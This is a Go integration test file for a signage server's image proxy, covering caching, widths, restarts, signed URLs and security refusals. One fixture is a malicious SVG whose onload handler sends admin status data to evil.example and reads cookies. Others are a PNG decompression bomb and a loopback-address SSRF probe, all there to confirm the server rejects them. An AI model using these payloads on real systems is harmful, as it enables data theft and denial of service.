package server_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/spencer-signage/signage/server"
	"github.com/spencer-signage/signage/server/media/mediatest"
	"github.com/spencer-signage/signage/spencerclient/spencertest"
)

// The media tests run the real server, the spencertest fake and image hosts over real
// HTTP: the server fetches each publication's image once, keeps it under data_dir/media
// in the widths screens take, and the pages reference only /media/ on our origin.

// mediaSrc finds the /media/ URLs a page references, in src and srcset alike.
var mediaSrc = regexp.MustCompile(`/media/[0-9a-f]{32}-[0-9]+\.(?:jpg|png)`)

// keptImage gives the lobby's first item a photo on the fake (the API host) and returns
// the path of one of its variants, once the server keeps it.
func (e *env) keptImage() string {
	e.t.Helper()
	e.fake.SetImage("lobby.jpg", "image/jpeg", mediatest.Photo(1600, 900))
	e.fake.SetPublications(lobby, []map[string]any{
		{"id": "l1", "title": "Town hall on Friday", "body": "<p>Auditorium at 16:00.</p>", "publishedAt": "2026-11-20T09:00:00Z", "image": e.fake.URL + "/images/lobby.jpg"},
	})
	e.srv.News().Get(lobby).FetchNow()
	var path string
	waitFor(e.t, 30*time.Second, "the lobby's photo kept", func() bool {
		_, page := e.get("/screens/" + lobby)
		path = mediaSrc.FindString(page)
		return path != ""
	})
	return path
}

// newMediaEnv is a server polling every 200 ms whose media may be fetched from host
// (on loopback, so allowed by media.allowed_hosts); the lobby's news is items.
func newMediaEnv(t *testing.T, host *mediatest.Host, items []map[string]any, mod ...func(*server.Config)) *env {
	t.Helper()
	e := newEnv(t, 200*time.Millisecond, append([]func(*server.Config){func(c *server.Config) {
		if host != nil {
			c.Media.AllowedHosts = []string{host.Addr()}
		}
	}}, mod...)...)
	e.fake.SetPublications(lobby, items)
	e.srv.News().Get(lobby).FetchNow()
	return e
}

func newHost(t *testing.T) *mediatest.Host {
	t.Helper()
	h := mediatest.NewHost()
	t.Cleanup(h.Close)
	return h
}

// pageImage is one <img> of a page.
type pageImage struct {
	slide, src, srcset, sizes string
}

// pageImages lists the images of a screen page (or an embed), by slide id.
func (e *env) pageImages(path string) []pageImage {
	e.t.Helper()
	resp, body := e.get(path)
	if resp.StatusCode != http.StatusOK {
		e.t.Fatalf("%s: %d", path, resp.StatusCode)
	}
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(body))
	if err != nil {
		e.t.Fatal(err)
	}
	var out []pageImage
	doc.Find("img").Each(func(_ int, s *goquery.Selection) {
		img := pageImage{src: s.AttrOr("src", ""), srcset: s.AttrOr("srcset", ""), sizes: s.AttrOr("sizes", "")}
		img.slide, _ = s.Closest("[data-id]").Attr("data-id")
		out = append(out, img)
	})
	return out
}

// urls are every URL an image names, src and srcset.
func (p pageImage) urls() []string {
	out := []string{p.src}
	for c := range strings.SplitSeq(p.srcset, ",") {
		if f := strings.Fields(c); len(f) > 0 {
			out = append(out, f[0])
		}
	}
	return out
}

// waitImages waits until the page shows n images.
func (e *env) waitImages(path string, n int) []pageImage {
	e.t.Helper()
	var imgs []pageImage
	waitFor(e.t, 60*time.Second, fmt.Sprintf("%d images on %s", n, path), func() bool {
		imgs = e.pageImages(path)
		return len(imgs) == n
	})
	return imgs
}

func mediaFiles(t *testing.T, dataDir string) []string {
	t.Helper()
	entries, err := os.ReadDir(filepath.Join(dataDir, "media"))
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range entries {
		if e.Name() != "index.json" {
			out = append(out, e.Name())
		}
	}
	return out
}

func photoItem(id, image string) map[string]any {
	return map[string]any{"id": id, "title": "Item " + id, "summary": "A photo of the week, with a caption long enough to stand beside it rather than on it: " + strings.Repeat("and more ", 8), "publishedAt": "2026-11-20T09:00:00Z", "image": image}
}

// TestMediaPagesReferenceOnlyOurOrigin: the screen and the embed of news whose photos
// live on another host reference only /media/ on our origin, in the widths kept, and
// their Content-Security-Policy lets them load images from nowhere else.
func TestMediaPagesReferenceOnlyOurOrigin(t *testing.T) {
	h := newHost(t)
	u := h.Put("/photos/4000.jpg", "image/jpeg", mediatest.Photo(4000, 2250))
	e := newMediaEnv(t, h, []map[string]any{photoItem("p1", u)})
	imgs := e.waitImages("/screens/"+lobby, 1)
	img := imgs[0]
	for _, u := range img.urls() {
		if !mediaSrc.MatchString(u) || !strings.HasPrefix(u, "/media/") {
			t.Errorf("the screen references %q, not our /media/", u)
		}
	}
	var widths []string
	for c := range strings.SplitSeq(img.srcset, ",") {
		widths = append(widths, strings.Fields(c)[1])
	}
	if !slices.Equal(widths, []string{"640w", "1280w", "1920w", "3840w"}) {
		t.Errorf("srcset %q: widths %v, want 640w 1280w 1920w 3840w", img.srcset, widths)
	}
	if !strings.HasSuffix(img.src, "-1280.jpg") || img.sizes == "" {
		t.Errorf("src %q sizes %q: want the 1280 px variant and a sizes", img.src, img.sizes)
	}
	for _, v := range img.urls() {
		resp, _ := e.get(v)
		w, _ := strconv.Atoi(v[strings.LastIndex(v, "-")+1 : strings.LastIndex(v, ".")])
		if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "image/jpeg" || w > 3840 {
			t.Errorf("%s: %d %s", v, resp.StatusCode, resp.Header.Get("Content-Type"))
		}
	}
	embed := e.pageImages("/embed/" + lobby)
	if len(embed) != 1 || !strings.HasPrefix(embed[0].src, "/media/") || embed[0].sizes != "64px" {
		t.Errorf("the embed shows %+v, want our 640 px thumbnail", embed)
	}
	resp, _ := e.get("/screens/" + lobby)
	if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "img-src 'self' data:;") {
		t.Errorf("CSP %q lets the page load images from elsewhere", csp)
	}
	if n := h.Requests(); n != 1 {
		t.Errorf("the image host was asked %d times, want once", n)
	}
}

// TestMediaTenPageLoadsCostTheHostNothing: once kept, an image costs its host nothing,
// however many screens load the page and its images.
func TestMediaTenPageLoadsCostTheHostNothing(t *testing.T) {
	h := newHost(t)
	u := h.Put("/a.jpg", "image/jpeg", mediatest.Photo(1600, 900))
	e := newMediaEnv(t, h, []map[string]any{photoItem("p1", u)})
	e.waitImages("/screens/"+lobby, 1)
	before := h.Requests()
	for range 10 {
		for _, img := range e.pageImages("/screens/" + lobby) {
			for _, v := range img.urls() {
				if resp, _ := e.get(v); resp.StatusCode != http.StatusOK {
					t.Fatalf("%s: %d", v, resp.StatusCode)
				}
			}
		}
	}
	if n := h.Requests() - before; n != 0 || before != 1 {
		t.Errorf("10 page loads cost the host %d requests (and keeping it %d), want 0 (and 1)", n, before)
	}
}

// TestMediaHostDownAcrossARestart: the photos are served from what was kept when the
// image host is down and the server restarts, without asking the host.
func TestMediaHostDownAcrossARestart(t *testing.T) {
	h := newHost(t)
	u := h.Put("/a.jpg", "image/jpeg", mediatest.Photo(1600, 900))
	e := newMediaEnv(t, h, []map[string]any{photoItem("p1", u)})
	before := e.waitImages("/screens/"+lobby, 1)
	e.stop()
	h.Close()
	e.fake.SetFault(spencertest.Fault{Status: http.StatusServiceUnavailable})
	e.start()
	after := e.waitImages("/screens/"+lobby, 1)
	if after[0].srcset != before[0].srcset {
		t.Errorf("after the restart the page offers %q, before %q", after[0].srcset, before[0].srcset)
	}
	for _, v := range after[0].urls() {
		if resp, _ := e.get(v); resp.StatusCode != http.StatusOK {
			t.Errorf("%s after the restart: %d", v, resp.StatusCode)
		}
	}
}

// TestMediaSignedURLRenewed: the host signs its URLs for a while only, and upstream
// hands out a new one while the old one expires: the new URL is fetched once, found to
// hold the same picture (nothing more kept, the screens told of nothing), and when the
// host is down by the next renewal the kept copy goes on being shown.
func TestMediaSignedURLRenewed(t *testing.T) {
	h := newHost(t)
	img := mediatest.Photo(1600, 900)
	var valid atomic.Value
	valid.Store("1")
	h.Handle(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Query().Get("sig") != valid.Load().(string) {
			http.Error(w, "Request has expired", http.StatusForbidden)
			return
		}
		w.Header().Set("Content-Type", "image/jpeg")
		w.Write(img) //nolint:errcheck
	})
	signed := func(sig string) string { return h.URL + "/a.jpg?Expires=1700000000&sig=" + sig }
	e := newMediaEnv(t, h, []map[string]any{photoItem("p1", signed("1"))})
	first := e.waitImages("/screens/"+lobby, 1)[0]
	files := mediaFiles(t, e.cfg.Server.DataDir)
	_, page := e.get("/screens/" + lobby)
	version := deckVersion(page)
	screen := e.dial(lobby, "v="+version)
	defer screen.Close()

	// Upstream renews the signature; the old one expires.
	valid.Store("2")
	e.fake.SetPublications(lobby, []map[string]any{photoItem("p1", signed("2"))})
	waitFor(t, 30*time.Second, "the renewed URL fetched", func() bool { return h.Requests() == 2 })
	waitFor(t, 10*time.Second, "a few more polls", func() bool { return e.fake.PublicationRequestsFor(lobby) > 8 })
	if n := h.Requests(); n != 2 {
		t.Errorf("the host was asked %d times, want twice (each URL once)", n)
	}
	if got := e.pageImages("/screens/" + lobby)[0]; got.srcset != first.srcset {
		t.Errorf("after the renewal the page offers %q, before %q", got.srcset, first.srcset)
	}
	if got := mediaFiles(t, e.cfg.Server.DataDir); !slices.Equal(got, files) {
		t.Errorf("files %v after the renewal, want still %v", got, files)
	}
	if _, page := e.get("/screens/" + lobby); deckVersion(page) != version {
		t.Errorf("the deck version changed from %s to %s for the same picture", version, deckVersion(page))
	}

	// The next renewal finds the host down: the picture stays.
	h.SetDown(true)
	valid.Store("3")
	e.fake.SetPublications(lobby, []map[string]any{photoItem("p1", signed("3"))})
	waitFor(t, 30*time.Second, "the third URL tried", func() bool { return h.Requests() == 3 })
	if got := e.pageImages("/screens/" + lobby); len(got) != 1 || got[0].srcset != first.srcset {
		t.Errorf("with the host down the page shows %+v, want the kept picture", got)
	}
	for range 3 { // the screen was told of nothing: no deck, and no deck without its photo
		screen.SetReadDeadline(time.Now().Add(100 * time.Millisecond)) //nolint:errcheck
		if _, b, err := screen.ReadMessage(); err == nil && strings.Contains(string(b), `"deck"`) {
			t.Errorf("the screen was sent a deck: %.200s", b)
		}
	}
}

var deckVersionAttr = regexp.MustCompile(`id="deck" class="deck" data-version="([^"]*)"`)

func deckVersion(page string) string {
	if m := deckVersionAttr.FindStringSubmatch(page); m != nil {
		return m[1]
	}
	return ""
}

// TestMediaSVGWithAScriptIsDropped: an SVG carrying a script, sent as an image, is never
// kept nor served: its slide stays type-led, and the status page and the metrics say
// why.
func TestMediaSVGWithAScriptIsDropped(t *testing.T) {
	h := newHost(t)
	svg := h.Put("/evil.svg", "image/svg+xml", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/admin/status.json').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))"><script>alert(document.cookie)</script><circle r="40"/></svg>`))
	jpg := h.Put("/fine.jpg", "image/jpeg", mediatest.Photo(800, 600))
	e := newMediaEnv(t, h, []map[string]any{photoItem("svg", svg), photoItem("jpg", jpg)})
	imgs := e.waitImages("/screens/"+lobby, 1)
	if imgs[0].slide != "jpg" {
		t.Errorf("the image shown is of slide %q, want the JPEG's", imgs[0].slide)
	}
	waitFor(t, 10*time.Second, "the failure on the status page", func() bool {
		_, body := e.get("/admin/status.json")
		return strings.Contains(body, `"media_failures":1`)
	})
	_, body := e.get("/admin/status.json")
	if !strings.Contains(body, `"media_error":"format: not JPEG, PNG, GIF or WebP (SVG)"`) {
		t.Errorf("status.json does not say why: %s", body)
	}
	if _, page := e.get("/admin"); !strings.Contains(page, "1 image not shown") {
		t.Error("the status page does not show the failure")
	}
	if _, metrics := e.get("/metrics"); !strings.Contains(metrics, `signage_media_failures_total{reason="format"} 1`) {
		t.Error("the failure is not in the metrics")
	}
	for _, f := range mediaFiles(t, e.cfg.Server.DataDir) {
		b, err := os.ReadFile(filepath.Join(e.cfg.Server.DataDir, "media", f))
		if err != nil || strings.Contains(string(b), "<svg") || strings.Contains(string(b), "<script") {
			t.Errorf("%s holds the SVG", f)
		}
		if ct := http.DetectContentType(b); ct != "image/jpeg" {
			t.Errorf("%s is %s", f, ct)
		}
	}
}

// TestMediaNeverFetchesFromAnotherLoopbackAddress: a publication's image on a loopback
// port that is neither the API's nor allowed is never fetched: its listener sees no
// connection, however often the news comes.
func TestMediaNeverFetchesFromAnotherLoopbackAddress(t *testing.T) {
	other := newHost(t)
	u := other.Put("/internal.jpg", "image/jpeg", mediatest.Photo(400, 300))
	e := newMediaEnv(t, nil, []map[string]any{photoItem("p1", u), photoItem("p2", "http://localhost:"+other.Port()+"/internal.jpg")})
	waitFor(t, 10*time.Second, "the refusal on the status page", func() bool {
		_, body := e.get("/admin/status.json")
		return strings.Contains(body, `"media_failures":2`) && strings.Contains(body, "address: a loopback, private or link-local address")
	})
	waitFor(t, 10*time.Second, "more polls", func() bool { return e.fake.PublicationRequestsFor(lobby) > 5 })
	if n := other.Conns(); n != 0 {
		t.Errorf("the other loopback listener accepted %d connections, want 0", n)
	}
	if imgs := e.pageImages("/screens/" + lobby); len(imgs) != 0 {
		t.Errorf("the page shows %+v", imgs)
	}
}

// TestMediaPNGBombRefusedWithoutAJumpInRSS: a 20000 × 20000 PNG (half a megabyte that
// decodes into 400 MB) is refused from its header: the process's peak resident memory
// barely moves while it is fetched and refused.
func TestMediaPNGBombRefusedWithoutAJumpInRSS(t *testing.T) {
	h := newHost(t)
	u := h.Put("/bomb.png", "image/png", mediatest.PNGBomb(20000, 20000))
	e := newMediaEnv(t, h, nil)
	if err := os.WriteFile("/proc/self/clear_refs", []byte("5"), 0); err != nil {
		t.Fatalf("cannot reset the peak RSS (Linux /proc/self/clear_refs): %v", err)
	}
	rss := procStatus(t, "VmRSS")
	e.fake.SetPublications(lobby, []map[string]any{photoItem("bomb", u)})
	waitFor(t, 30*time.Second, "the bomb refused", func() bool {
		_, body := e.get("/admin/status.json")
		return strings.Contains(body, "too_many_pixels: 20000×20000")
	})
	peak := procStatus(t, "VmHWM")
	t.Logf("resident memory %d MB before, peak %d MB while the bomb was fetched and refused", rss>>20, peak>>20)
	if peak-rss > 64<<20 {
		t.Errorf("peak RSS rose by %d MB", (peak-rss)>>20)
	}
}

// procStatus reads a memory figure of /proc/self/status, in bytes.
func procStatus(t *testing.T, key string) int64 {
	t.Helper()
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.SplitSeq(string(b), "\n") {
		if rest, ok := strings.CutPrefix(line, key+":"); ok {
			kb, err := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
			if err != nil {
				t.Fatal(err)
			}
			return kb << 10
		}
	}
	t.Fatalf("no %s in /proc/self/status", key)
	return 0
}

// TestMediaOnTheAPIHostIsFetchedWithTheToken: an attachment behind the API's token is
// fetched with it, and the feeds offer our copy of it (the original is no use to a feed
// reader); a CDN's plain URL stays as it is in the feeds.
func TestMediaOnTheAPIHostIsFetchedWithTheToken(t *testing.T) {
	h := newHost(t)
	cdn := h.Put("/cdn.jpg", "image/jpeg", mediatest.Photo(900, 600))
	e := newMediaEnv(t, h, nil)
	e.fake.SetImage("attachment.jpg", "image/jpeg", mediatest.Photo(2000, 1500))
	e.fake.SetImagesNeedToken(true)
	e.fake.SetPublications(lobby, []map[string]any{photoItem("att", e.fake.URL+"/images/attachment.jpg"), photoItem("cdn", cdn)})
	e.waitImages("/screens/"+lobby, 2)
	resp, body := e.get("/api/feed.json?userlist=" + lobby)
	if resp.StatusCode != http.StatusOK {
		t.Fatal(resp.StatusCode)
	}
	var f struct {
		Items []struct {
			ID    string `json:"id"`
			Image string `json:"image"`
		} `json:"items"`
	}
	if err := json.Unmarshal([]byte(body), &f); err != nil {
		t.Fatal(err)
	}
	images := map[string]string{}
	for _, it := range f.Items {
		images[it.ID[strings.LastIndex(it.ID, "/")+1:]] = it.Image
	}
	if got := images["att"]; !strings.HasPrefix(got, e.base+"/media/") || !strings.HasSuffix(got, "-1920.jpg") {
		t.Errorf("the feed offers the attachment as %q, want our 1920 px copy", got)
	} else if resp, _ := e.get(strings.TrimPrefix(got, e.base)); resp.StatusCode != http.StatusOK {
		t.Errorf("%s: %d", got, resp.StatusCode)
	}
	if got := images["cdn"]; got != cdn {
		t.Errorf("the feed offers the CDN's image as %q, want its own URL %q", got, cdn)
	}
}

// TestMediaPhotoArrivesOnAScreenShowingTheSlide: a screen that shows a slide whose
// photo is not kept yet (its host is slow) has it type-led, and gets a new deck with the
// photo when it arrives.
func TestMediaPhotoArrivesOnAScreenShowingTheSlide(t *testing.T) {
	h := newHost(t)
	release := make(chan struct{})
	img := mediatest.Photo(1600, 900)
	h.Handle(func(w http.ResponseWriter, r *http.Request) {
		<-release
		w.Write(img) //nolint:errcheck
	})
	e := newMediaEnv(t, h, []map[string]any{photoItem("p1", h.URL+"/slow.jpg")})
	waitFor(t, 10*time.Second, "the lobby's news", func() bool { return e.srv.News().Get(lobby).Content() != nil })
	_, page := e.get("/screens/" + lobby)
	if strings.Contains(page, "/media/") || !strings.Contains(page, "no-image") {
		t.Fatal("the page shows a photo before it was fetched")
	}
	screen := e.dial(lobby, "v="+deckVersion(page))
	defer screen.Close()
	close(release)
	m := readMessage(t, screen, 30*time.Second)
	if m.Type != "deck" || m.Version == deckVersion(page) || !mediaSrc.MatchString(m.HTML) || !strings.Contains(m.HTML, "has-image") {
		t.Errorf("after the photo arrived the screen got %s %s %.300s", m.Type, m.Version, m.HTML)
	}
}

// TestMediaProxyOffIsTodaysBehaviour: with media.proxy = false the pages load each image
// from its own host, and /media/ is no route.
func TestMediaProxyOffIsTodaysBehaviour(t *testing.T) {
	h := newHost(t)
	u := h.Put("/a.jpg", "image/jpeg", mediatest.Photo(800, 600))
	e := newMediaEnv(t, h, []map[string]any{photoItem("p1", u)}, func(c *server.Config) { c.Media.Proxy = false })
	imgs := e.waitImages("/screens/"+lobby, 1)
	if imgs[0].src != u || imgs[0].srcset != "" {
		t.Errorf("the page shows %+v, want the host's URL", imgs[0])
	}
	if resp, _ := e.get("/media/0123456789abcdef0123456789abcdef-640.jpg"); resp.StatusCode != http.StatusNotFound {
		t.Errorf("/media/: %d, want 404", resp.StatusCode)
	}
	if h.Requests() != 0 {
		t.Errorf("the server asked the host %d times", h.Requests())
	}
	resp, _ := e.get("/screens/" + lobby)
	if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "img-src 'self' https: http: data:") {
		t.Errorf("CSP %q", csp)
	}
}

// TestMediaWithoutAWritableDataDir: when data_dir/media cannot be made (a file where the
// directory should be), the images are kept in memory: the screens still reach only this
// server.
func TestMediaWithoutAWritableDataDir(t *testing.T) {
	h := newHost(t)
	u := h.Put("/a.jpg", "image/jpeg", mediatest.Photo(800, 600))
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "media"), []byte("not a directory"), 0o644); err != nil {
		t.Fatal(err)
	}
	e := newMediaEnv(t, h, []map[string]any{photoItem("p1", u)}, func(c *server.Config) { c.Server.DataDir = dir })
	img := e.waitImages("/screens/"+lobby, 1)[0]
	if resp, _ := e.get(img.src); !strings.HasPrefix(img.src, "/media/") || resp.StatusCode != http.StatusOK {
		t.Errorf("the page shows %q (%d)", img.src, resp.StatusCode)
	}
	if !strings.Contains(e.logs.String(), "media not kept on disk: kept in memory") {
		t.Error("the log does not say where the images are kept")
	}
}
